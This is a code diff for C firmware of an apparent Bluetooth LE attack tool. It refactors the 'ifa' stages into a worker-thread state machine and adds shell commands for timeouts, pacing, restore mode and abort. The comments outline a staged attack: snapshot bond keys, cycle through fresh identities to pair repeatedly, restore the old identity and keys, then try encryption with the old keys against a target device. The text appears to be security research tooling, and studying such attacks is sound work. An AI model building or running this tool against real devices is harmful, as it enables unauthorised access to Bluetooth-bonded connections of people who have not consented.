-    err = bt_conn_disconnect(conn, BT_HCI_ERR_REMOTE_USER_TERM_CONN);
-    if (err) {
-      shell_error(shell, "Disconnection failed, reason: %d (%s)", err, bt_hci_err_to_str(err));
-    }
+int ifa_check(const bt_addr_le_t *duts, uint8_t n, uint8_t profile, struct ifa_check_result *results){
+  struct ifa_sm sms[IFA_SESSIONS_MAX] = { 0 };
+  int err;
 
-    k_sem_take(&disconn_sem, K_FOREVER);
+  n = MIN(n, IFA_SESSIONS_MAX);
+  for (uint8_t i = 0; i < n; i++) {
+    sms[i].stage = IFA_STAGE_CHECK;
+    sms[i].last_stage = IFA_STAGE_CHECK;
+    sms[i].target = duts[i];
+    sms[i].profile = profile;
+    sms[i].sid = i;
+  }
+
+  err = ifa_sm_run(sms, n);
+
+  for (uint8_t i = 0; i < n; i++) {
+    results[i].err = sms[i].finished ? 0 : sms[i].res;
+    results[i].sec_level = sms[i].sec_level;
+    results[i].enc_key_size = sms[i].enc_key_size;
+    results[i].sec_flags = sms[i].sec_flags;
+    results[i].remote_key_size = sms[i].remote_key_size;
+    results[i].sec_err = sms[i].sec_err;
+    results[i].connect_failed = sms[i].connect_failed;
+    results[i].duration_ms = sms[i].report_ms ? sms[i].report_ms - sms[i].start_ms : 0;
+  }
+
+  return err;
+}
 
-    ifa_unpair(BT_ID_DEFAULT, &target_addr);
+/* A run tears its link down before it returns, but stops waiting for disconnected() after the disconnect timeout.
+ * Jobs that check the same DUT over and over call this before the next run, which must start without a link.
+ */
+int ifa_wait_disconnected(const bt_addr_le_t *addr){
+  uint32_t timeout_ms = step_policy[IFA_STEP_DISCONNECT].timeout_ms;
+  k_timepoint_t deadline = sys_timepoint_calc(timeout_ms ? K_MSEC(timeout_ms) : K_FOREVER);
+  struct bt_conn_info info;
+  struct bt_conn *conn;
+  bool asked = false;
+  bool down;
+
+  // a disconnection after the lookup below leaves the semaphore given
+  k_sem_reset(&ifa_disconnected_sem);
+  while ((conn = bt_conn_lookup_addr_le(BT_ID_DEFAULT, addr))) {
+    down = bt_conn_get_info(conn, &info) || info.state == BT_CONN_STATE_DISCONNECTED;
+    if (!down && !asked && info.state != BT_CONN_STATE_DISCONNECTING) {
+      bt_conn_disconnect(conn, BT_HCI_ERR_REMOTE_USER_TERM_CONN);
+      asked = true;
+    }
     bt_conn_unref(conn);
-    conn = NULL;
 
-    shell_print(shell, "fake id connection event: %d completed\n", (i+1));
+    if (down) {
+      break;
+    }
+    // woken by every disconnection, the lookup tells whether it was this one
+    if (k_sem_take(&ifa_disconnected_sem, sys_timepoint_timeout(deadline))) {
+      return -ETIMEDOUT;
+    }
   }
-  shell_print(shell, "stage 2 complete. \n");
+
+  return 0;
 }
 
-static void ifa_stage2_1_periph(void){
-    id_reset(BT_ID_DEFAULT, NULL, NULL);
-    shell_print(shell, "stage 2.1 completed. \n");
+int ifa_resume(const struct shell *sh){
+  struct worker_job job = {
+    .name = "campaign resume",
+    .run = ifa_job_resume,
+  };
 
-    w_advertising_start();
+  return worker_submit(sh, &job);
 }
 
-static void ifa_stage2_2_periph(void){
+const char *ifa_stage_name(uint8_t stage){
+  return stage < ARRAY_SIZE(stages) ? stages[stage].name : "?";
+}
 
-    //check if default_conn exists (so if there is a connection between the two devices)
-    if (!default_conn){
-      shell_error(shell, "Connection terminated.");
-    }
+int ifa_get_status(uint8_t idx, struct ifa_status *st){
+  struct ifa_sm *sm = ifa_set;
 
-    const bt_addr_le_t *dst = bt_conn_get_dst(default_conn); // bt_conn_get_dst() returns a const, but ifa_snapshot_take() and ifa_snapshot_take() require a non-const
+  // the fields are only written by the worker; a torn read merely shows a step that just passed
+  if (!sm || idx >= ifa_set_n) {
+    return -ENOENT;
+  }
+  sm = &sm[idx];
 
-    // get BDA of Central as string
-    char addr[BT_ADDR_LE_STR_LEN];
-    bt_addr_le_to_str(dst, addr, sizeof(addr));
+  st->stage = stages[sm->stage].name;
+  st->step = step_names[ifa_sm_cur_step(sm)];
+  st->phase = phase_names[sm->phase];
+  st->iter = ifa_stage_loops(sm->stage) ? sm->iter + 1 : 0;
+  st->n = sm->n;
+  st->attempt = sm->attempt;
+  st->target = sm->target;
 
-    bt_addr_le_t central_addr = *dst;   // therefor, we need to make a mutable copy of *dst
+  return 0;
+}
 
-    int err = bt_conn_disconnect(default_conn, BT_HCI_ERR_REMOTE_USER_TERM_CONN);
-    if (err) {
-      shell_error(shell, "Disconnection failed (err %d)", err);
-    }
+int cmd_ifa_abort(const struct shell *sh, size_t argc, char *argv[]){
+  int err;
 
-    k_sem_take(&disconn_sem, K_FOREVER);
+  if (argc > 1 && !strcmp(argv[1], "all")) {
+    shell_print(sh, "dropped %d queued jobs", worker_purge());
+  }
 
-    ifa_unpair(BT_ID_DEFAULT, &central_addr);
+  err = ifa_abort();
+  if (err == -EALREADY) {
+    shell_print(sh, "no ifa run in progress");
+    return 0;
+  }
+  if (err) {
+    shell_error(sh, "Failed to request abort (err %d)", err);
+    return err;
+  }
 
-    shell_print(shell, "\nstage 2.2 with %s complete. \n", addr);
+  shell_print(sh, "abort requested");
+  return 0;
 }
 
-static void ifa_stage3(void){
-  int err;
+int cmd_ifa_timeout(const struct shell *sh, size_t argc, char *argv[]){
+  unsigned long timeout_ms, retries, backoff_ms;
+  size_t step;
+  int err = 0;
 
-  cmd_ifa_id_restore();
-  k_sleep(K_MSEC(200));
+  if (argc == 1) {
+    shell_print(sh, "%-16s %10s %8s %10s", "step", "timeout_ms", "retries", "backoff_ms");
+    for (step = 0; step < ARRAY_SIZE(step_policy); step++) {
+      shell_print(sh, "%-16s %10u %8u %10u", step_names[step], step_policy[step].timeout_ms,
+                  step_policy[step].retries, step_policy[step].backoff_ms);
+    }
+    return 0;
+  }
 
-  cmd_ifa_snapshot_restore();
-  k_sleep(K_MSEC(200));
+  for (step = 0; step < ARRAY_SIZE(step_names); step++) {
+    if (!strcmp(argv[1], step_names[step])) {
+      break;
+    }
+  }
 
-	err = bt_disable();
-	if (err) {
-		shell_error(shell, "Bluetooth disable failed (err %d)\n", err);
-	}
-	shell_print(shell, "Bluetooth disabled\n");
+  if (step == ARRAY_SIZE(step_names) || argc < 3) {
+    shell_error(sh, "Usage: timeout [<step> <timeout_ms> [retries] [backoff_ms]]");
+    return -EINVAL;
+  }
 
-	err = bt_enable(NULL);
-	if (err) {
-		shell_error(shell, "Bluetooth init failed (err %d)\n", err);
-	}
-	shell_print(shell,"Bluetooth re-enabled\n");
+  retries = step_policy[step].retries;
+  backoff_ms = step_policy[step].backoff_ms;
+  timeout_ms = shell_strtoul(argv[2], 10, &err);
+  if (!err && argc > 3) {
+    retries = shell_strtoul(argv[3], 10, &err);
+  }
+  if (!err && argc > 4) {
+    backoff_ms = shell_strtoul(argv[4], 10, &err);
+  }
+  if (err) {
+    shell_error(sh, "timeout_ms, retries and backoff_ms must be numbers");
+    return -EINVAL;
+  }
 
-	err = settings_load();
-  if(err < 0){
-    shell_error(shell, "Loading settings failed with err: %d\n", err);
-    shell_print(shell, "continuing anyways\n");
-  } else {
-	  shell_print(shell,"Settings loaded\n");
+  step_policy[step].timeout_ms = timeout_ms;
+  step_policy[step].retries = MIN(retries, UINT8_MAX);
+  step_policy[step].backoff_ms = MIN(backoff_ms, UINT16_MAX);
+
+  shell_print(sh, "%s: timeout %u ms, %u retries, backoff %u ms", step_names[step], step_policy[step].timeout_ms,
+              step_policy[step].retries, step_policy[step].backoff_ms);
+  return 0;
+}
+
+int cmd_ifa_restore_mode(const struct shell *sh, size_t argc, char *argv[]){
+
+  if (argc > 1) {
+    if (!strcmp(argv[1], "inplace")) {
+      restore_inplace = true;
+    } else if (!strcmp(argv[1], "restart")) {
+      restore_inplace = false;
+    } else {
+      shell_error(sh, "Usage: restore_mode [inplace | restart]");
+      return -EINVAL;
+    }
   }
 
-  shell_print(shell, "\nstage 3 complete. \n");
+  shell_print(sh, "stage 3 restore: %s", restore_inplace ? "in place, stack restart as fallback" : "stack restart");
+  return 0;
 }
 
-static void ifa_stage4(bt_addr_le_t target_addr){
-  struct bt_conn *conn = NULL;
+int cmd_ifa_pace(const struct shell *sh, size_t argc, char *argv[]){
+  unsigned long step_ms = pacing.step_ms;
+  unsigned long max_ms = pacing.max_ms;
+  int err = 0;
+
+  if (argc > 2) {
+    step_ms = shell_strtoul(argv[2], 10, &err);
+  }
+  if (!err && argc > 3) {
+    max_ms = shell_strtoul(argv[3], 10, &err);
+  }
+  if (err) {
+    shell_error(sh, "step_ms and max_ms must be numbers");
+    return -EINVAL;
+  }
 
-  ifa_connect(&target_addr, &conn);
-  ifa_securiy(conn);
+  if (argc > 1) {
+    if (!strcmp(argv[1], "on")) {
+      pacing.on = true;
+    } else if (!strcmp(argv[1], "off")) {
+      pacing.on = false;
+    } else {
+      shell_error(sh, "Usage: pace [on | off] [step_ms] [max_ms]");
+      return -EINVAL;
+    }
+  }
+  pacing.step_ms = CLAMP(step_ms, 1, UINT16_MAX);
+  pacing.max_ms = CLAMP(max_ms, pacing.step_ms, UINT16_MAX);
 
-  shell_print(shell, "\nstage 4 complete. \n");
+  shell_print(sh, "stage 2 pacing: %s, -%u ms per clean iteration, doubled per failed one, at most %u ms",
+              pacing.on ? "on" : "off", pacing.step_ms, pacing.max_ms);
+  return 0;
 }
 
+int cmd_ifa_connect_mode(const struct shell *sh, size_t argc, char *argv[]){
 
-/* Part 2: exposed functions --------------------------------------------------------------------------------------------- */
+  if (argc > 1) {
+    if (!strcmp(argv[1], "auto")) {
+      connect_auto = true;
+    } else if (!strcmp(argv[1], "direct")) {
+      connect_auto = false;
+    } else {
+      shell_error(sh, "Usage: connect_mode [direct | auto]");
+      return -EINVAL;
+    }
+  }
+
+  shell_print(sh, "connect mode: %s", connect_auto ? "auto (accept list, connect on first advertisement)" : "direct");
+  return 0;
+}
 
 int cmd_reset(const struct shell *sh, size_t argc, char *argv[]){
   uint8_t id;
@@ -298,6 +1932,15 @@ int cmd_ifa_id_save(){
   return 0;
 }
 
+// default identity to addr/irk, with a fresh RPA
+int ifa_id_set(const bt_addr_le_t *addr, const uint8_t irk[16]){
+  bt_addr_le_t a = *addr;
+  uint8_t k[16];
+
+  memcpy(k, irk, sizeof(k));
+  return id_reset(BT_ID_DEFAULT, &a, k);
+}
+
 int cmd_ifa_id_restore(){
   if(id_saved) {
     id_reset(BT_ID_DEFAULT, &old_addr, old_irk);
@@ -344,16 +1987,12 @@ int cmd_ifa_stage1(const struct shell *sh, size_t argc, char *argv[]){
   	return err;
   }
 
-  ifa_stage1(target_addr);
-
-  return 0;
+  return ifa_submit(sh, "ifa1", ifa_job_stage1, &target_addr, 0, ifa_parse_profile(sh, argc, argv, 3));
 }
 
 int cmd_ifa_stage1_periph(const struct shell *sh){
 
-  ifa_stage1_periph();
-
-  return 0;
+  return ifa_submit(sh, "ifa1_p", ifa_job_stage1_periph, NULL, 0, CONN_PROFILE_SELECTED);
 }
 
 int cmd_ifa_stage2(const struct shell *sh, size_t argc, char *argv[]){
@@ -373,30 +2012,37 @@ int cmd_ifa_stage2(const struct shell *sh, size_t argc, char *argv[]){
   	return -1;
   }
 
-  ifa_stage2(target_addr, n);
-
-  return 0;
+  return ifa_submit(sh, "ifa2", ifa_job_stage2, &target_addr, n, ifa_parse_profile(sh, argc, argv, 4));
 }
 
 int cmd_ifa_stage2_1_periph(const struct shell *sh){
 
-  ifa_stage2_1_periph();
-
-  return 0;
+  return ifa_submit(sh, "ifa2_1_p", ifa_job_stage2_1_periph, NULL, 0, CONN_PROFILE_SELECTED);
 }
 
 int cmd_ifa_stage2_2_periph(const struct shell *sh){
 
-  ifa_stage2_2_periph();
+  return ifa_submit(sh, "ifa2_2_p", ifa_job_stage2_2_periph, NULL, 0, CONN_PROFILE_SELECTED);
+}
 
-  return 0;
+/* The attack on a central DUT without operator: every stage advertises and waits for the DUT's central to connect and
+ * bond (or, in the end, encrypt with the restored bond), see the accept and await_security steps.
+ */
+int cmd_ifa_periph(const struct shell *sh, size_t argc, char *argv[]){
+  int n;
+
+  n = atoi(argv[1]);
+  if (n <= 0 || n >= 200) {
+    shell_error(sh, "n must be 0 < n < 200");
+    return -1;
+  }
+
+  return ifa_submit(sh, "ifa_p", ifa_job_periph, NULL, n, CONN_PROFILE_SELECTED);
 }
 
 int cmd_ifa_stage3(const struct shell *sh, size_t argc, char *argv[]){
 
-  ifa_stage3();
-
-  return 0;
+  return ifa_submit(sh, "ifa3", ifa_job_stage3, NULL, 0, CONN_PROFILE_SELECTED);
 }
 
 int cmd_ifa_stage4(const struct shell *sh, size_t argc, char *argv[]){
@@ -409,9 +2055,7 @@ int cmd_ifa_stage4(const struct shell *sh, size_t argc, char *argv[]){
   	return err;
   }
 
-  ifa_stage4(target_addr);
-
-  return 0;
+  return ifa_submit(sh, "ifa4", ifa_job_stage4, &target_addr, 0, ifa_parse_profile(sh, argc, argv, 3));
 }
 
 int cmd_ifa(const struct shell *sh, size_t argc, char *argv[]){
@@ -439,44 +2083,31 @@ int cmd_ifa(const struct shell *sh, size_t argc, char *argv[]){
    * 3. pairing with bonding flag (bonding)
    * 4. taking snapshot of key_pool
    * 5. unpairing to ensure that the connection is really disconnected and bonding information is correctly removed. This can be changed.
-  */
-
-  ifa_stage1(target_addr);
-
-  /* -------------------------------------------------------------------------------------------------------------------------------------*/
-
-  /* stage 2
+   *
+   * stage 2
    * loop:
    *  1. reset identity
    *  2. connect with new identity
    *  3. pairing with bonding flag (with new identity)
    *  4. unpair to ensure that the connection si really disconnected and bonding information is correctly removed.
    * end_loop
-  */
-
-  ifa_stage2(target_addr, n);
-
-  /* -------------------------------------------------------------------------------------------------------------------------------------*/
-
-  /* stage 3
+   *
+   * stage 3
    * 1. restore identity
    * 2. restore the snapshot and save its content to storage
-   * 3. disable bluetooth
-   * 4. re-enable bluetooth
-   * 5. load settings and with it the snapshotted keys from storage
-  */
-
-  ifa_stage3();
-  k_sleep(K_SECONDS(3));
-
-  /* -------------------------------------------------------------------------------------------------------------------------------------*/
-
-  /* stage 4
+   * 3. add the restored IRKs to the resolving list (restore_mode inplace), or if the keys are not live:
+   *    disable bluetooth, re-enable bluetooth and load settings and with it the snapshotted keys from storage
+   *
+   * stage 4
    * 1. connect with old id
    * 2. try to establish an encryption with old keys
+   *
+   * All stages run as one state machine on the worker thread; each step starts as soon as the callback of the
+   * previous one arrived.
    */
-  ifa_stage4(target_addr);
+
+  err = ifa_submit(sh, "ifa", ifa_job_all, &target_addr, n, ifa_parse_profile(sh, argc, argv, 4));
 
   return err;
 
-}
\ No newline at end of file
+}